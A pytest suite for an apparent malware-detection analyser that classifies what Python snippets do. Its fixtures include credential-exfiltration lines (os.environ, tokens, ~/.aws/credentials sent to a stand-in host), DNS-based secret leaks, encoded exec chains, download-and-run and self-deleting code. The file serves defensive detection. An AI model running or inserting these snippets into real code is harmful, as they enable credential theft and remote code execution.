"""What Python code is said to do: each spelling of it, and what only looks like it."""

from __future__ import annotations

import base64
import hashlib
import zlib

import pytest

from pratique.model.observation import Refusal
from pratique.model.release import Fact, SourceFile
from pratique.releases.extract import facts_of_file


def facts_of(text: str | bytes, path: str = "pkg/module.py", kind: str = "python") -> list[Fact]:
    """The facts of one file of text."""
    content = text.encode() if isinstance(text, str) else text
    file = SourceFile(path, content, hashlib.sha256(content).hexdigest(), kind)
    return [one for one in facts_of_file(file) if isinstance(one, Fact)]


def told(text: str | bytes) -> set[str]:
    """The kinds of facts of one text, without imports."""
    return {one.kind for one in facts_of(text)} - {"import.module"}


PAYLOAD = "import os\nos.system('echo inert')\n"
ENCODED = base64.b64encode(PAYLOAD.encode()).decode()
PACKED = base64.b64encode(zlib.compress(PAYLOAD.encode() * 4)).decode()

CASES = [
    ("import os\nos.environ['HOME']", {"capability.environment-read"}),
    ("from os import environ as e\nx = dict(e)", {"capability.environment-read"}),
    ("import os as o\no.getenv('TOKEN')", {"capability.environment-read"}),
    ("open('a').read()", {"capability.file-read"}),
    ("with open('a', 'w') as f: f.write('x')", {"capability.file-write"}),
    ("from pathlib import Path\nPath('x').write_text('y')", {"capability.file-write"}),
    ("from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()",
     {"capability.file-read", "capability.credential-read"}),
    ("import os\nopen(os.path.expanduser('~/.aws/credentials'))",
     {"capability.file-read", "capability.credential-read"}),
    ("import os\nh = os.environ['HOME']\nopen(f'{h}/.pypirc')",
     {"capability.environment-read", "capability.file-read", "capability.credential-read"}),
    ("import shutil, os\nshutil.copy(os.path.join('~', '.kube', 'config'), 'x')",
     {"capability.file-read", "capability.credential-read", "capability.file-write"}),
    ("for p in ['.npmrc', '.netrc']:\n  open('~/' + p).read()", {"capability.file-read", "capability.credential-read"}),
    ("import os\nos.remove(__file__)", {"capability.file-delete", "capability.self-delete"}),
    ("import os\nos.unlink(os.path.abspath(__file__))", {"capability.file-delete", "capability.self-delete"}),
    ("from pathlib import Path\nPath(__file__).unlink()", {"capability.file-delete", "capability.self-delete"}),
    ("import os\nos.remove(os.path.join(os.path.dirname(__file__), 'x.so'))", {"capability.file-delete"}),
    ("import requests\nrequests.get('https://a.example/x')", {"capability.network"}),
    ("import requests as r\ns = r.Session()\ns.post('https://a.example/x', json={})", {"capability.network"}),
    ("import httpx\nasync def f():\n  async with httpx.AsyncClient() as c:\n    await c.get('https://a.example')",
     {"capability.network"}),
    ("from urllib.request import urlopen\nurlopen('https://a.example')", {"capability.network"}),
    ("import urllib.request as u\nu.urlretrieve('https://a.example/x', 'y')", {"capability.download"}),
    ("import socket\ns = socket.socket()\ns.connect(('192.0.2.7', 4444))", {"capability.network"}),
    ("__import__('os').system('ls')", {"capability.process"}),
    ("import importlib\nimportlib.import_module('sub' + 'process').run(['ls'])", {"capability.process"}),
    ("import os\ngetattr(os, 'sys' + 'tem')('ls')", {"capability.process"}),
    ("getattr(__builtins__, 'ev' + 'al')('1')", {"capability.dynamic-code"}),
    ("globals()['__builtins__'].exec('1')", {"capability.dynamic-code"}),
    ("e = exec\ne(input())", {"capability.dynamic-code"}),
    ("import builtins\nbuiltins.exec(input())", {"capability.dynamic-code"}),
    ("exec code", {"capability.dynamic-code"}),
    ("import base64\nbase64.b64decode(x)", {"capability.decode"}),
    ("import codecs\ncodecs.decode(x, 'rot13')", {"capability.decode"}),
    ("import codecs\ncodecs.decode(x, 'utf-8')", set()),
    ("import socket\nsocket.gethostname()", {"capability.host-recon"}),
    ("import pyperclip\npyperclip.paste()", {"capability.clipboard"}),
    ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a')", {"capability.file-write", "capability.persistence"}),
    ("import subprocess\nsubprocess.run('crontab /x/y', shell=True)", {"capability.process", "capability.persistence"}),
    ("import os\nopen('.github/workflows/x.yml', 'w')", {"capability.file-write", "capability.workflow-write"}),
    ("open('.vscode/tasks.json', 'w')", {"capability.file-write", "capability.agent-configuration"}),
    ("import subprocess\nsubprocess.run(['twine', 'upload', 'x'])", {"capability.process", "capability.own-publish"}),
    ("import time\ntime.sleep(86400)", {"capability.delay"}),
    ("import time\ntime.sleep(1)", set()),
    ("import sys\nsys.gettrace()", {"capability.condition"}),
    ("def open_door(x): return x\nopen_door('.ssh/id_rsa')", set()),
    ("text = 'os.system(1)'\n# eval('x')\n", set()),
]  # fmt: skip


@pytest.mark.parametrize(("text", "expected"), CASES, ids=[text[:50].replace("\n", "; ") for text, _ in CASES])
def test_capabilities(text: str, expected: set[str]) -> None:
    assert told(text) == expected


CHAINS = [
    ("import os, requests\nrequests.post('https://a.example', json=dict(os.environ))", "chain.secret-to-network"),
    ("import os, requests, base64, json\nd = base64.b64encode(json.dumps(dict(os.environ)).encode())\n"
     "requests.post('https://a.example', data={'d': d})", "chain.secret-to-network"),
    ("import os, urllib.request as u\ndef send(x):\n  u.urlopen(u.Request('https://a.example', data=x))\n"
     "def main():\n  send(open(os.path.expanduser('~/.aws/credentials'), 'rb').read())\nmain()",
     "chain.secret-to-network"),
    ("import os, requests\nt = os.environ.get('GITHUB_TOKEN')\nrequests.get(f'https://a.example/?t={t}')",
     "chain.secret-to-network"),
    ("import os, socket\nsocket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'].lower() + '.a.example')",
     "chain.secret-to-network"),
    (f"import base64\nexec(base64.b64decode('{ENCODED}'))", "chain.decode-to-run"),
    (f"import base64, zlib\ne = eval\ne(compile(zlib.decompress(base64.b64decode(b'{PACKED}')), 'x', 'exec'))",
     "chain.decode-to-run"),
    (f"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n"
     f"exec((_)(b'{PACKED[::-1]}'))", "chain.decode-to-run"),
    ("import subprocess, base64\nsubprocess.run(base64.b64decode(x).decode(), shell=True)", "chain.decode-to-run"),
    ("import requests\nexec(requests.get('https://a.example/x.py').text)", "chain.download-to-run"),
    ("import urllib.request as u, os\nu.urlretrieve('https://a.example/x', '/var/x')\nos.system('/var/x')",
     "chain.download-to-run"),
    ("import requests, subprocess\ndef go(p):\n  r = requests.get('https://a.example/x')\n  with open(p, 'wb') as f:\n"
     "    f.write(r.content)\n  subprocess.Popen([p])", "chain.download-to-run"),
    ("import os, subprocess\nsubprocess.run(['x'])\nos.remove(__file__)", "chain.run-and-hide"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "expected"), CHAINS, ids=[text[:60].replace("\n", "; ") for text, _ in CHAINS])
def test_chains(text: str, expected: str) -> None:
    found = [one for one in facts_of(text) if one.kind == expected]
    assert found, [(one.kind, dict(one.attributes)) for one in facts_of(text)]
    assert found[0].attributes["steps"]
    assert found[0].line >= 1


NO_CHAINS = [
    "import os, requests\nport = os.environ.get('PORT')\nrequests.get('https://a.example')",
    "import os, requests\nk = os.environ['SERVICE_API_KEY']\nrequests.post('https://a.example', headers={'x': k})",
    "import os, requests\nt = os.environ['GITHUB_TOKEN']\nrequests.post('https://api.github.example', json={'t': t})",
    "import os, subprocess\nsubprocess.run(['x'], env=dict(os.environ))",
    "import base64\nx = base64.b64decode(y)\nexec('1')",
    "import requests\nr = requests.get('https://a.example')\nopen('x', 'wb').write(r.content)\nimport os\nos.system('ls')",
    "exec(open('x').read())",
    "import json\nx = eval(json.dumps(y))",
]


@pytest.mark.parametrize("text", NO_CHAINS, ids=[text[:60].replace("\n", "; ") for text in NO_CHAINS])
def test_what_only_lies_together_is_no_chain(text: str) -> None:
    assert [one.kind for one in facts_of(text) if one.kind.startswith("chain.")] == []


def test_layers_are_decoded_and_read() -> None:
    inner = f"import base64\nexec(base64.b64decode('{ENCODED}'))"
    outer = base64.b64encode(inner.encode()).decode()
    text = f"import base64\n\nexec(base64.b64decode('{outer}'))"
    found = [one for one in facts_of(text) if one.kind == "capability.process"]
    assert [(one.line, one.attributes["layer"], one.attributes["command"]) for one in found] == [(3, 2, "echo inert")]


def test_an_encoded_literal_is_told_without_being_run() -> None:
    code = base64.b64encode(b"import socket\nsocket.create_connection(('a.example', 1))\n" * 2).decode()
    found = facts_of(f"BLOB = '{code[:70]}' + '{code[70:]}'")
    kinds = [one.kind for one in found]
    assert "obfuscation.literal" in kinds
    assert [one.attributes["layer"] for one in found if one.kind == "capability.network"] == [1]


def test_destinations_are_defanged_and_sends_is_told() -> None:
    found = [one for one in facts_of("import requests\nrequests.post('http://192.0.2.9/x', data=b'1')")
             if one.kind == "capability.network"]  # fmt: skip
    assert dict(found[0].attributes) == {
        "api": "requests.post", "destination": "hxxp://192[.]0[.]2[.]9/x", "method": "POST", "sends": True,
        "raw_address": True, "language": "python", "scope": "top",
    }  # fmt: skip


def test_scope_follows_what_is_called_when_the_file_is_loaded() -> None:
    text = "import os\ndef a():\n  b()\ndef b():\n  os.system('x')\ndef c():\n  os.system('y')\na()\n"
    found = {
        one.attributes["command"]: one.attributes["scope"] for one in facts_of(text) if "command" in one.attributes
    }
    assert found == {"x": "top", "y": "function"}


HANDED = [
    ("import os, subprocess\nsubprocess.run(['x'], env=dict(os.environ))", False),
    ("import os, subprocess\ndef f():\n  e = os.environ.copy()\n  e['A'] = '1'\n  subprocess.run(['x'], env=e)", False),
    ("import os, subprocess\nsubprocess.run(['x'], env={**os.environ, 'A': '1'})", False),
    ("import os\nmonkeypatch.setitem(os.environ, 'A', '1')", False),
    ("import os\ne = os.environ.copy()\nsend(e)", True),
    ("import os\nsend(os.environ)", True),
    ("import os\nx = {k: v for k, v in os.environ.items()}", True),
]


@pytest.mark.parametrize(("text", "whole"), HANDED, ids=[text[:50].replace("\n", "; ") for text, _ in HANDED])
def test_an_environment_that_is_only_handed_on_is_not_read(text: str, whole: bool) -> None:
    found = [one.attributes["whole"] for one in facts_of(text) if one.kind == "capability.environment-read"]
    assert found == [whole]


def test_detached_and_hidden() -> None:
    text = "import subprocess as s\ns.Popen(['x'], start_new_session=True, stdout=s.DEVNULL, stderr=s.DEVNULL)\n"
    found = [one for one in facts_of(text) if one.kind == "capability.process"]
    assert found[0].attributes["detached"] is True
    assert found[0].attributes["hidden"] is True


FORMS = [
    ("x = 1;" + " " * 300 + "import os", "far-right"),
    ("f(" + "+".join(f"chr({ord(letter)})" for letter in "import os; pass") + ")", "character-codes"),
    ("x = '" + "".join(f"\\x{ord(letter):02x}" for letter in "import subprocess") + "'", "escapes"),
    ("exec(" + "(lambda a: (lambda b: " * 3 + "1" + ")(a))(1)" * 3 + ")", "lambda-chain"),
]


@pytest.mark.parametrize(("text", "form"), FORMS, ids=[form for _, form in FORMS])
def test_forms(text: str, form: str) -> None:
    found = [one.attributes["form"] for one in facts_of(text) if one.kind == "obfuscation.form"]
    assert form in found


def test_names_that_say_nothing() -> None:
    text = "\n".join(f"_0x{number:04x} = _0x{number:04x} + 1" for number in range(20))
    assert "obfuscation.names" in told(text)
    assert "obfuscation.names" not in told("\n".join(f"name_{number} = 1" for number in range(50)))


def test_lines_of_path_configuration() -> None:
    text = "\ufeffimport os; os.system('x')\n/some/folder\n import no\nimport\ttabbed\n# import x\n"
    found = facts_of(text, "x.pth", "path-configuration")
    triggers = [(one.line, one.attributes.get("plain", False)) for one in found if one.kind.startswith("trigger")]
    assert triggers == [(1, False), (4, True)]
    assert [one.line for one in found if one.kind == "capability.process"] == [1]


def test_startup_modules_and_bytecode() -> None:
    assert "trigger.startup" in {one.kind for one in facts_of("x = 1", "sitecustomize.py")}
    pyc = b"\xa7\x0d\r\n\x00\x00\x00\x00" + b"\x00" * 40
    file = SourceFile("x.py", pyc, "0" * 64, "python")
    found = list(facts_of_file(file))
    assert [one.reason for one in found if isinstance(one, Refusal)] == ["bytecode is not examined"]


def test_declared_encodings() -> None:
    text = "# -*- coding: latin-1 -*-\nimport os\nos.system('\xe9')\n".encode("latin-1")
    assert told(text) == {"capability.process"}
    found = list(facts_of_file(SourceFile("x.py", b"# coding: unknown-8\nx = 1\n", "0" * 64, "python")))
    assert isinstance(found[0], Refusal)
    assert found[0].relevant
